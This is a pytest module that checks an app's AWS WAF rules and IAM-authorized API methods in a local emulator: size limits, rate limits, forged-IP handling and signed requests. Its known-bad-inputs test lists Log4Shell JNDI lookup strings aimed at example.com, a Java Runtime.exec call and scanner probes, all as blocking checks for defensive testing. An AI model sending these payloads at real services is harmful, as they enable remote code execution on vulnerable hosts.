"""What the deployed web ACL and AWS_IAM methods do to requests, reproduced by the local stack on the
app exactly as synthesized: the assembly is built once (as tests/infra builds it), provisioned the way
`make dev` provisions it (moto, here in process), and every request goes through the same
ApiGatewayEmulator that serves the local gateway. Each test is a rule over every API of the assembly
that meets a web ACL (or every AWS_IAM method), so the next API or route is held to it too.

The rules are AWS's documented ones (developer guide, "Baseline rule groups" and "Rate-based rule
statement"; API Gateway's WAF_FILTERED and AWS_IAM answers); see local/waf.py.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from moto import mock_aws

from app import build_app
from local.apigateway import ApiGatewayEmulator, CognitoTokenValidator, HttpRequest, HttpResponse
from local.assembly import CloudAssembly
from local.cloud import LocalCloud, Provisioner, RestApi, Route
from local.iam import MISSING_TOKEN, LocalCredentials, method_arn
from local.waf import WafRequest, WebAcl

REGION = "us-east-1"
ACCOUNT = "123456789012"
GATEWAY = "localhost:8080"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
FORBIDDEN = {"message": "Forbidden"}


@pytest.fixture(scope="module")
def assembly_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    outdir = tmp_path_factory.mktemp("waf-assembly")
    # As `python -m local` synthesizes: asset metadata on (functions get code and credentials), no
    # bundling, no storefront; everything else from cdk.json.
    context = {"aws:cdk:bundling-stacks": [], "aws:cdk:enable-asset-metadata": True, "frontendPath": ""}
    build_app(context, outdir=str(outdir)).synth()
    return outdir


@pytest.fixture(scope="module")
def cloud(assembly_dir: Path) -> LocalCloud:
    with mock_aws():
        provisioner = Provisioner(
            CloudAssembly(assembly_dir),
            aws_endpoint=None,  # moto in process
            public_url=f"http://{GATEWAY}",
            region=REGION,
            account=ACCOUNT,
        )
        return provisioner.provision()


@dataclass
class Gateway:
    """One API behind the local emulator, with a fresh web ACL (rate counts start at zero)."""

    api: RestApi
    emulator: ApiGatewayEmulator
    invocations: list[dict[str, Any]] = field(default_factory=list)

    @property
    def acl(self) -> WebAcl:
        assert self.api.web_acl is not None
        return self.api.web_acl

    def send(
        self,
        method: str,
        path: str,
        *,
        headers: list[tuple[str, str]] | None = None,
        query: list[tuple[str, str]] | None = None,
        body: bytes = b"",
        source_ip: str = "127.0.0.1",
    ) -> HttpResponse:
        headers = [("Host", GATEWAY), ("User-Agent", BROWSER)] if headers is None else headers
        request = HttpRequest(method, path, query or [], headers, body, source_ip)
        return self.emulator.handle(request)


def _gateway(cloud: LocalCloud, api: RestApi) -> Gateway:
    fresh = api.web_acl and WebAcl(
        api.web_acl.definition, arn=api.web_acl.arn, resolve_reference=cloud.waf_references.get
    )
    gateway = Gateway(replace(api, web_acl=fresh), None)  # type: ignore[arg-type]

    def invoke(_function_arn: str, event: dict[str, Any]) -> tuple[Any, None]:
        gateway.invocations.append(event)
        return {"statusCode": 200, "body": "{}"}, None

    gateway.emulator = ApiGatewayEmulator(
        gateway.api,
        invoke=invoke,
        user_pools=cloud.user_pools,
        token_validator=CognitoTokenValidator(lambda _pool: "http://127.0.0.1:9/jwks", lambda _id: set()),
        account=ACCOUNT,
        domain_name=GATEWAY,
    )
    return gateway


@pytest.fixture
def protected(cloud: LocalCloud) -> list[Gateway]:
    """Every API whose stage meets a web ACL."""
    gateways = [_gateway(cloud, api) for api in cloud.apis.values() if api.web_acl is not None]
    assert gateways, "the default app associates its web ACL with the API stages"
    return gateways


def _is_waf_block(response: HttpResponse) -> bool:
    return response.status == 403 and json.loads(response.body or b"null") == FORBIDDEN


def _open_route(api: RestApi) -> tuple[str, str]:
    """(method, path) of a route anyone may call, with its path parameters filled in."""
    route = next(
        r
        for r in api.routes
        if r.authorization_type == "NONE" and r.function_arn and r.method in ("GET", "POST")
    )
    return route.method, re.sub(r"\{[^}]+\}", "trail-lantern", route.path)


def _plain(**overrides: Any) -> WafRequest:
    fields = {
        "method": "GET",
        "uri_path": "/prod/product",
        "query_string": "",
        "headers": [("Host", "api.execute-api.us-east-1.amazonaws.com"), ("User-Agent", BROWSER)],
        "body": b"",
        "source_ip": "203.0.113.10",
        **overrides,
    }
    return WafRequest(**fields)


# --- which APIs meet which web ACL ---------------------------------------------------------------------


def _targets(value: Any, kind: str) -> Iterator[str]:
    """Logical ids a value refers to with Ref or Fn::GetAtt."""
    if isinstance(value, dict):
        if kind in value:
            target = value[kind]
            yield target[0] if isinstance(target, list) else str(target).split(".")[0]
        for item in value.values():
            yield from _targets(item, kind)
    elif isinstance(value, list):
        for item in value:
            yield from _targets(item, kind)


def _web_acl_name(templates: dict[str, dict], stack: str, value: Any) -> str:
    """The Name of the AWS::WAFv2::WebACL a WebACLArn value points at, across stacks."""
    if "Fn::GetStackOutput" in value:
        reference = value["Fn::GetStackOutput"]
        stack = reference["StackName"]
        value = templates[stack]["Outputs"][reference["OutputName"]]["Value"]
    elif "Fn::ImportValue" in value:
        stack, value = next(
            (name, output["Value"])
            for name, template in templates.items()
            for output in template.get("Outputs", {}).values()
            if output.get("Export", {}).get("Name") == value["Fn::ImportValue"]
        )
    [acl] = list(_targets(value, "Fn::GetAtt"))
    return templates[stack]["Resources"][acl]["Properties"]["Name"]


def test_each_api_stage_meets_exactly_the_web_acl_its_association_names(
    assembly_dir: Path, cloud: LocalCloud
) -> None:
    templates = {stack.name: stack.template for stack in CloudAssembly(assembly_dir).stacks}
    expected: dict[str, str | None] = {}
    for name, template in templates.items():
        resources = template["Resources"]
        for resource in resources.values():
            if resource["Type"] == "AWS::ApiGateway::RestApi":
                expected.setdefault(resource["Properties"]["Name"], None)
        for resource in resources.values():
            if resource["Type"] == "AWS::WAFv2::WebACLAssociation":
                properties = resource["Properties"]
                [api] = [
                    t
                    for t in _targets(properties["ResourceArn"], "Ref")
                    if resources.get(t, {}).get("Type") == "AWS::ApiGateway::RestApi"
                ]
                expected[resources[api]["Properties"]["Name"]] = _web_acl_name(
                    templates, name, properties["WebACLArn"]
                )
    applied = {api.name: api.web_acl.name if api.web_acl else None for api in cloud.apis.values()}
    assert applied == expected
    assert any(expected.values())


# --- the managed rules' documented thresholds, on every protected API ----------------------------------


def test_a_request_without_user_agent_is_refused_before_the_api(protected: list[Gateway]) -> None:
    for gateway in protected:
        method, path = _open_route(gateway.api)
        refused = gateway.send(method, path, headers=[("Host", GATEWAY)])
        assert _is_waf_block(refused), gateway.api.name
        assert ("x-amzn-ErrorType", "ForbiddenException") in refused.headers
        assert not gateway.invocations
        passed = gateway.send(method, path, body=b"{}" if method == "POST" else b"")
        assert not _is_waf_block(passed), gateway.api.name
        blocked = gateway.acl.status()["decisions"]["block"]
        assert blocked == {"AWSManagedRulesCommonRuleSet/NoUserAgent_HEADER": 1}


@pytest.mark.parametrize(
    ("size", "refused"),
    [(8192, False), (8193, True), (9 * 1024, True), (40 * 1024, True)],
    ids=["8KB", "8KB+1", "9KB", "40KB-past-the-inspection-limit"],
)
def test_a_body_over_8_kb_is_refused(protected: list[Gateway], size: int, refused: bool) -> None:
    body = json.dumps({"productId": "trail-lantern", "note": ""}).encode()
    body = body[:-2] + b"x" * (size - len(body)) + b'"}'
    assert len(body) == size
    for gateway in protected:
        response = gateway.send("POST", _open_route(gateway.api)[1], body=body)
        assert _is_waf_block(response) is refused, (gateway.api.name, size)


@pytest.mark.parametrize(
    ("part", "limit"),
    [("query string", 2048), ("URI path", 1024), ("cookie header", 10240)],
)
def test_query_string_uri_path_and_cookie_size_limits(
    protected: list[Gateway], part: str, limit: int
) -> None:
    for gateway in protected:
        stage = f"/{gateway.api.stage}"

        def request_with(size: int, stage: str = stage) -> WafRequest:
            if part == "query string":
                return _plain(query_string="q=" + "a" * (size - 2))
            if part == "URI path":
                # WAF sees the path as sent to execute-api, with the stage.
                return _plain(uri_path=stage + "/product/" + "a" * (size - len(stage) - 9))
            return _plain(headers=[*_plain().headers, ("Cookie", "c=" + "a" * (size - 2))])

        assert gateway.acl.evaluate(request_with(limit)).allowed, (part, limit)
        assert not gateway.acl.evaluate(request_with(limit + 1)).allowed, (part, limit + 1)


@pytest.mark.parametrize(
    "attack",
    [
        {"headers": [("Host", GATEWAY), ("User-Agent", "${jndi:ldap://example.com/a}")]},
        {"headers": [("Host", GATEWAY), ("User-Agent", BROWSER), ("X-Api-Version", "$%7Bjndi:dns://x%7D")]},
        {"query": [("q", "${jndi:ldap://example.com/}")]},
        {"body": b'{"productId": "${jndi:ldap://example.com/}"}'},
        {"path": "/product/${jndi:ldap:%2F%2Fexample.com}"},
        {
            "headers": [
                ("Host", GATEWAY),
                ("User-Agent", BROWSER),
                ("X-Call", '(java.lang.Runtime).getRuntime().exec("id")'),
            ]
        },
        {"method": "PROPFIND"},
        {"path": "/product/WEB-INF/web.xml"},
        {"headers": [("Host", GATEWAY), ("User-Agent", "Nmap Scripting Engine")]},
    ],
    ids=[
        "log4j-user-agent",
        "log4j-header-encoded",
        "log4j-query",
        "log4j-body",
        "log4j-path",
        "java-runtime",
        "propfind",
        "web-inf",
        "bad-bot",
    ],
)
def test_known_bad_inputs_are_refused(protected: list[Gateway], attack: dict[str, Any]) -> None:
    for gateway in protected:
        response = gateway.send(
            attack.get("method", "GET"),
            attack.get("path", _open_route(gateway.api)[1]),
            headers=attack.get("headers"),
            query=attack.get("query"),
            body=attack.get("body", b""),
        )
        assert _is_waf_block(response), gateway.api.name
        assert not gateway.invocations


def test_waf_sees_the_execute_api_host_not_the_local_gateways(protected: list[Gateway]) -> None:
    # Host_localhost_HEADER refuses "localhost", and the local gateway is localhost: on AWS a request
    # only reaches the stage through its execute-api (or custom) domain, so that is what WAF sees.
    for gateway in protected:
        host = [("Host", "localhost"), ("User-Agent", BROWSER)]
        assert gateway.acl.evaluate(_plain(headers=host)).rule == (
            "AWSManagedRulesKnownBadInputsRuleSet/Host_localhost_HEADER"
        )
        method, path = _open_route(gateway.api)
        assert not _is_waf_block(gateway.send(method, path, body=b"{}" if method == "POST" else b""))


# --- rate limits --------------------------------------------------------------------------------------


def _requests_until_blocked(acl: WebAcl, make: Any) -> tuple[int, str | None]:
    ceiling = max(
        int(rule["Statement"]["RateBasedStatement"]["Limit"])
        for rule in acl.definition["Rules"]
        if "RateBasedStatement" in rule["Statement"]
    )
    for index in range(ceiling + 1):
        verdict = acl.evaluate(make(index))
        if not verdict.allowed:
            return index, verdict.rule
    return ceiling + 1, None


def _rate_rule(acl: WebAcl, name: str | None) -> dict[str, Any]:
    [rule] = [r for r in acl.definition["Rules"] if r["Name"] == name]
    return rule["Statement"]["RateBasedStatement"]


def test_a_direct_client_is_limited_per_source_ip(protected: list[Gateway]) -> None:
    acl = protected[0].acl
    allowed, rule = _requests_until_blocked(acl, lambda _i: _plain())
    statement = _rate_rule(acl, rule)
    assert statement["AggregateKeyType"] == "IP"
    assert allowed == int(statement["Limit"])
    assert acl.evaluate(_plain(source_ip="198.51.100.77")).allowed  # another client
    acl.advance_time(int(statement.get("EvaluationWindowSec", 300)))
    assert acl.evaluate(_plain()).allowed  # the window has moved on


def test_a_forged_viewer_ip_is_still_counted_per_source_ip(protected: list[Gateway]) -> None:
    # Only CloudFront (with the secret origin header) may speak for the viewer: a direct caller that
    # writes a new X-Viewer-Ip into every request is limited as the one source IP it is.
    acl = protected[0].acl

    def forged(index: int) -> WafRequest:
        viewer = f"10.{index // 65536 % 256}.{index // 256 % 256}.{index % 256}"
        return _plain(headers=[*_plain().headers, ("X-Viewer-Ip", viewer)])

    allowed, rule = _requests_until_blocked(acl, forged)
    assert rule is not None, "a forged X-Viewer-Ip escaped every rate limit"
    statement = _rate_rule(acl, rule)
    assert statement["AggregateKeyType"] == "IP"
    assert allowed == int(statement["Limit"])


# --- AWS_IAM methods ----------------------------------------------------------------------------------


def _iam_routes(cloud: LocalCloud) -> list[tuple[RestApi, Route]]:
    return [(api, r) for api in cloud.apis.values() for r in api.routes if r.authorization_type == "AWS_IAM"]


def _signed_headers(
    credentials: LocalCredentials, api: RestApi, method: str, path: str
) -> list[tuple[str, str]]:
    url = f"http://{GATEWAY}/api/{api.api_id}{path}"
    request = AWSRequest(method=method, url=url, headers={"Accept": "application/json"})
    SigV4Auth(
        Credentials(credentials.access_key_id, credentials.secret_access_key, credentials.session_token),
        "execute-api",
        REGION,
    ).add_auth(request)
    return [("Host", GATEWAY), ("User-Agent", "shopping-cart/1"), *request.headers.items()]


def test_aws_iam_methods_admit_only_functions_whose_role_grants_invoke(cloud: LocalCloud) -> None:
    routes = _iam_routes(cloud)
    if not routes:
        pytest.skip("the assembly has no AWS_IAM method")
    for api, route in routes:
        gateway = _gateway(cloud, api)
        path = re.sub(r"\{[^}]+\}", "trail-lantern", route.path)
        arn = method_arn(REGION, ACCOUNT, api.api_id, api.stage, route.method, path)
        callers = list(cloud.iam.credentials.values())
        granted = [c for c in callers if cloud.iam.decide(c.role_arn, "execute-api:Invoke", arn) == "allow"]
        assert granted, f"no function may call {route.method} {route.path}"
        unsigned = gateway.send(route.method, path)
        assert (unsigned.status, json.loads(unsigned.body)) == (403, {"message": MISSING_TOKEN})
        for caller in callers:
            response = gateway.send(
                route.method, path, headers=_signed_headers(caller, api, route.method, path)
            )
            if caller in granted:
                assert response.status == 200, response.body
                assert (
                    gateway.invocations[-1]["requestContext"]["identity"]["userArn"] == caller.principal_arn
                )
            else:
                assert response.status == 403
                assert (
                    "is not authorized to perform: execute-api:Invoke" in json.loads(response.body)["Message"]
                )
